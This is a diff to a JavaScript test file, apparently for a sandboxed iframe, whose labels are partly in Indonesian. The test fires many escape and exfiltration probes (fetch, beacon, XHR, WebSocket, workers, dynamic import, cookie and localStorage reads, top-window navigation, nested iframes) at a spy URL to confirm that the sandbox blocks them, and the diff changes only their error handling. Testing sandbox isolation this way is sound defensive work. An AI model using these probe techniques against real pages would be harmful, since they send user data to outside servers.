@@ -73,7 +73,7 @@ test(
     (async () => {
       ${attack('fetch', `await fetch('${spyUrl}/fetch')`)}
       ${attack('fetch situs', "await fetch('/api/me')")}
-      ${attack('beacon', `if (!navigator.sendBeacon('${spyUrl}/beacon')) throw 0`)}
+      ${attack('beacon', `navigator.sendBeacon('${spyUrl}/beacon'); throw 0`)}
       ${attack('xhr', `const x = new XMLHttpRequest(); x.open('GET', '${spyUrl}/xhr', false); x.send()`)}
       ${attack('gambar', `await new Promise((a, b) => { const i = new Image(); i.onload = a; i.onerror = b; i.src = '${spyUrl}/gambar2' })`)}
       ${attack('soket', `await new Promise((a, b) => { const w = new WebSocket('${spyUrl.replace('http', 'ws')}/soket'); w.onopen = a; w.onerror = b })`)}
@@ -81,7 +81,7 @@ test(
       ${attack('webrtc', 'new RTCPeerConnection()')}
       ${attack('impor', `await import('${spyUrl}/modul.js')`)}
       ${attack('pekerja', `await new Promise((a, b) => { const w = new Worker('${spyUrl}/pekerja.js'); w.onmessage = a; w.onerror = b })`)}
-      ${attack('pekerja blob', `await new Promise((a, b) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('${spyUrl}/blob').then(() => postMessage(1), () => { throw 0 })"]))); w.onmessage = a; w.onerror = b; setTimeout(b, 800) })`)}
+      ${attack('pekerja blob', `await new Promise((a, b) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('${spyUrl}/blob').then(() => postMessage(1), () => close())"]))); w.onmessage = a; w.onerror = b; setTimeout(b, 800) })`)}
       ${attack('service worker', "await navigator.serviceWorker.register('/sw.js')")}
       ${attack('penyimpanan', 'localStorage.length')}
       ${attack('kuki', 'document.cookie')}
@@ -95,7 +95,7 @@ test(
       ${attack('jendela', `if (!window.open('${spyUrl}/jendela')) throw 0`)}
       for (const code of [() => f.submit(), () => a.click(), () => (top.location = '${spyUrl}/atas'), () => (document.domain = 'x'), () => alert(1), () => print()]) try { code() } catch {}
       parent.postMessage({ nonce: 'x', run: 1, message: { kind: 'done' } }, '*')
-      const bingkai = document.createElement('iframe'); bingkai.srcdoc = "<script>fetch('${spyUrl}/dalam'); new Image().src='${spyUrl}/dalam2'</scr" + "ipt>"; document.body.append(bingkai)
+      const bingkai = document.createElement('iframe'); bingkai.srcdoc = "<script>fetch('${spyUrl}/dalam').catch(() => {}); new Image().src='${spyUrl}/dalam2'</scr" + "ipt>"; document.body.append(bingkai)
       const gaya = document.createElement('style'); gaya.textContent = "body { background: url(${spyUrl}/gaya2) }"; document.head.append(gaya)
       console.log('HASIL ' + hasil.join(','))
     })()
